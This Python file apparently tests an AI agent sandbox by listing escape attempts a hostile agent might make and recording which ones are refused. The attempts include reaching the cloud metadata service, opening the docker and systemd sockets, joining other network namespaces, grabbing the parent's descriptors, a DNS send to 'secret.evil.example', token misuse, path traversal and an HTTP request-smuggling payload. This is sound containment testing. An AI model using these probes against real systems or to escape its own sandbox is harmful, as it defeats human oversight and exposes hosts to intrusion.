"""What a hostile agent tries, from inside: a program that is run with nothing but Python's library.

    python3 -c attempts.py '{"token": …, "revoked": …, "expired": …, "other": …, "host_pid": …,
                             "socket": …, "other_socket": …}'

Prints a JSON object: for each attempt `reached…`, the status line that refused it, or the name of
the error.
"""

from __future__ import annotations

import base64
import ctypes
import errno
import fcntl
import json
import os
import socket
import struct
import sys
from collections.abc import Callable

PUBLIC, SIX = "93.184.216.34", "2606:2800:220:1::34"
RELAY = ("127.0.0.1", 8080)
PATIENCE_S = 20
CLONE_NEWNET, CLONE_NEWUSER = 0x40000000, 0x10000000
PIDFD_GETFD = 438
SIOCGIFFLAGS, SIOCSIFFLAGS = 0x8913, 0x8914

Given = dict[str, str]
libc = ctypes.CDLL(None, use_errno=True)


# ---- sockets --------------------------------------------------------------------------------


def said(connection: socket.socket, question: bytes = b"") -> str:
    """What comes back first; an end without a word is an error."""
    with connection:
        connection.settimeout(PATIENCE_S)
        if question:
            connection.send(question)
        answer = connection.recv(1000)
    if not answer:
        raise OSError(errno.ECONNRESET, "nothing came")
    return answer.decode(errors="replace").split("\r\n")[0].strip()


def tcp(address: str, port: int) -> str:
    return said(socket.create_connection((address, port), PATIENCE_S))


def udp(address: str, port: int) -> str:
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asking.connect((address, port))
    return said(asking, b"secret.evil.example")


def unix(path: str) -> str:
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    return said(connection)


def provider() -> str:
    """The model provider that the broker asks."""
    asking = socket.create_connection(("127.0.0.1", 9443), PATIENCE_S)
    return said(asking, b"GET / HTTP/1.0\r\n\r\n").removeprefix("HTTP/1.1 200 ")


# ---- the kernel -----------------------------------------------------------------------------


def kernel(result: int) -> str:
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return "reached"


def in_child(call: Callable[[], str]) -> str:
    """Where it works it changes the process: so one that ends with it."""
    child = os.fork()
    if not child:
        try:
            call()
        except OSError as problem:
            os._exit(problem.errno or 255)
        os._exit(0)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise OSError(code, "refused")
    return "reached"


def raw_icmp() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as asking:
        asking.sendto(struct.pack("!BBHHH", 8, 0, 0xF7FF, 0, 0), (PUBLIC, 0))
    return "reached"


def packets() -> str:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    return "reached"


def interface() -> str:
    """Sets lo to the flags that it has."""
    with socket.socket() as any_socket:
        request = fcntl.ioctl(any_socket, SIOCGIFFLAGS, b"lo".ljust(40, b"\0"))
        fcntl.ioctl(any_socket, SIOCSIFFLAGS, request)
    return "reached"


def another_network() -> str:
    return in_child(lambda: kernel(libc.unshare(CLONE_NEWUSER | CLONE_NEWNET)))


def network_of(pid: str) -> str:
    with open(f"/proc/{pid}/ns/net") as namespace:
        return in_child(lambda: kernel(libc.setns(namespace.fileno(), CLONE_NEWNET)))


# ---- other processes ------------------------------------------------------------------------


def descriptors_of(pid: str) -> str:
    return f"reached: {len(os.listdir(f'/proc/{pid}/fd'))}"


def signalled(pid: str) -> str:
    os.kill(int(pid), 0)
    return "reached"


def inherited() -> str:
    """Anything that is open here and is not standard."""
    kinds = {
        number: os.readlink(f"/proc/self/fd/{number}")
        for number in os.listdir("/proc/self/fd")[:-1]
    }
    more = [kind for number, kind in kinds.items() if int(number) > 2 or kind.startswith("socket")]
    if not more:
        raise OSError(errno.EBADF, "nothing")
    return f"reached: {more}"


def connection_of_the_relay() -> str:
    """The relay is our parent; its connections to the broker are not ours."""
    pidfd = os.pidfd_open(os.getppid())
    return kernel(libc.syscall(PIDFD_GETFD, pidfd, 3, 0))


# ---- the broker -----------------------------------------------------------------------------


def connect(target: str, token: str | None, place: socket.socket | None = None) -> str:
    credentials = base64.b64encode(f"agentorch:{token}".encode()).decode()
    lines = [f"CONNECT {target} HTTP/1.1", f"Host: {target}"]
    if token is not None:
        lines.append(f"Proxy-Authorization: Basic {credentials}")
    question = "\r\n".join([*lines, "", ""]).encode()
    with place or socket.create_connection(RELAY, PATIENCE_S) as connection:
        connection.sendall(question)
        answer = b""
        while piece := connection.recv(1000):
            answer += piece
    status, _, rest = answer.partition(b"\r\n")
    if b" 200 " in status:
        return rest.rpartition(b"\r\n")[2].decode().strip()
    return status.decode()


def direct(path: str) -> socket.socket:
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    return connection


def ask(method: str, path: str, token: str | None, *fields: str, body: str = "{}") -> str:
    lines = [f"{method} {path} HTTP/1.1", "Host: localhost", "Content-Type: application/json"]
    lines += [f"x-api-key: {token}"] if token is not None else []
    length = (
        [] if any("encoding" in field for field in fields) else [f"Content-Length: {len(body)}"]
    )
    question = "\r\n".join([*lines, *length, *fields, "", body]).encode()
    return said(socket.create_connection(RELAY, PATIENCE_S), question)


def unlinked(path: str) -> str:
    os.rename(path, f"{path}.mine")
    os.rename(f"{path}.mine", path)
    return "reached"


SMUGGLED = "0\r\n\r\nPOST /openai/v1/responses HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\n{}"
MESSAGES = "/anthropic/v1/messages"
MODEL = '{"model": "claude-test", "max_tokens": 1, "messages": []}'


def attempts(given: Given) -> dict[str, Callable[[], str]]:
    token = given["token"]
    return {
        # straight out
        "a public address": lambda: tcp(PUBLIC, 443),
        "another port": lambda: tcp(PUBLIC, 8443),
        "IPv6": lambda: tcp(SIX, 443),
        "IPv6 with IPv4 in it": lambda: tcp(f"::ffff:{PUBLIC}", 443),
        "a private network": lambda: tcp("10.0.0.5", 443),
        "the metadata service": lambda: tcp("169.254.169.254", 80),
        "the metadata service by IPv6": lambda: tcp("fd00:ec2::254", 80),
        "the host's loopback": lambda: tcp("127.0.0.1", 443),
        "the host's loopback by IPv6": lambda: tcp("::1", 443),
        "the provider without the broker": provider,
        "DNS by UDP": lambda: udp(PUBLIC, 53),
        "DNS by UDP of the host": lambda: udp("127.0.0.1", 53),
        "DNS by TCP": lambda: tcp(PUBLIC, 53),
        "ICMP": raw_icmp,
        "packets": packets,
        # around the network
        "an interface": interface,
        "a network of its own": another_network,
        "the network of the host's process": lambda: network_of(given["host_pid"]),
        "the network of process 1": lambda: network_of("1"),
        "an abstract socket": lambda: unix("\0agentorch-decoy"),
        "D-Bus": lambda: unix("/run/dbus/system_bus_socket"),
        "docker": lambda: unix("/run/docker.sock"),
        "systemd": lambda: unix("/run/systemd/private"),
        "another step's socket": lambda: unix(given["other_socket"]),
        "another step's socket by process 1": lambda: unix(f"/proc/1/root{given['other_socket']}"),
        "descriptors of process 1": lambda: descriptors_of("1"),
        "the host's processes": lambda: signalled(given["host_pid"]),
        "inherited descriptors": inherited,
        "the relay's own connections": connection_of_the_relay,
        "the broker's socket for one of its own": lambda: unlinked(given["socket"]),
        # by the broker, to hosts
        "a host that is not listed": lambda: connect("unlisted.example:443", token),
        "a listed host's other port": lambda: connect("public.example:8443", token),
        "a public address by the broker": lambda: connect(f"{PUBLIC}:443", token),
        "the metadata service by the broker": lambda: connect("169.254.169.254:80", token),
        "the broker's loopback": lambda: connect("127.0.0.1:9443", token),
        "a name of the broker's loopback": lambda: connect("localhost:9443", token),
        "a listed name that leads to loopback": lambda: connect("loop.example:443", token),
        "a listed name that leads to loopback by IPv6": lambda: connect("loop6.example:443", token),
        "a listed name that leads to metadata": lambda: connect("metadata.example:443", token),
        "a listed name that leads to metadata by IPv6": lambda: connect(
            "metadata6.example:443", token
        ),
        "a listed name that leads to a private network": lambda: connect(
            "private.example:443", token
        ),
        "a listed name that leads nowhere": lambda: connect("zero.example:443", token),
        "a listed name in disguise": lambda: connect("mapped.example:443", token),
        "a host without a token": lambda: connect("public.example:443", None),
        "a host with a wrong token": lambda: connect("public.example:443", "wrong"),
        "a host with a token that was taken away": lambda: connect(
            "public.example:443", given["revoked"]
        ),
        "a host with a token that expired": lambda: connect("public.example:443", given["expired"]),
        "a host of this step with another's token": lambda: connect(
            "public.example:443", given["other"]
        ),
        "a host that is not listed by the socket itself": lambda: connect(
            "unlisted.example:443", token, direct(given["socket"])
        ),
        # by the broker, to providers
        "another provider": lambda: ask("POST", "/openai/v1/responses", token),
        "no provider": lambda: ask("POST", "/evil/v1/messages", token),
        "another path": lambda: ask("POST", "/anthropic/v1/files", token),
        "another method": lambda: ask("DELETE", MESSAGES, token),
        "a path upwards": lambda: ask("POST", f"{MESSAGES}/../../admin", token),
        "a path upwards in disguise": lambda: ask("POST", f"{MESSAGES}%2f..%2f..%2fadmin", token),
        "a proxy's request": lambda: ask("GET", "http://169.254.169.254/latest/meta-data/", token),
        "a proxy's request for the provider": lambda: ask("GET", "http://127.0.0.1:9443/", token),
        "a web socket": lambda: ask(
            "GET", MESSAGES, token, "Connection: upgrade", "Upgrade: websocket"
        ),
        "a model without a token": lambda: ask("POST", MESSAGES, None),
        "a model with a wrong token": lambda: ask("POST", MESSAGES, "wrong"),
        "a model with a token that was taken away": lambda: ask("POST", MESSAGES, given["revoked"]),
        "a model with a token that expired": lambda: ask("POST", MESSAGES, given["expired"]),
        "a model with another's token": lambda: ask("POST", MESSAGES, given["other"]),
        "another's account": lambda: ask("GET", "/agentorch/account", "wrong"),
        "a smuggled request": lambda: ask(
            *("POST", MESSAGES, token, "Content-Length: 6", "Transfer-encoding: chunked"),
            body=SMUGGLED,
        ),
        # what was granted
        "the granted host": lambda: connect("public.example:443", token),
        "the granted model": lambda: ask("POST", MESSAGES, token, body=MODEL),
    }


def outcome(attempt: Callable[[], str]) -> str:
    try:
        return attempt()
    except TimeoutError:
        return "timeout"
    except OSError as problem:
        return errno.errorcode.get(problem.errno or 0, str(problem))


if __name__ == "__main__":
    found = attempts(json.loads(sys.argv[1]))
    sys.stdout.write(json.dumps({name: outcome(attempt) for name, attempt in found.items()}))
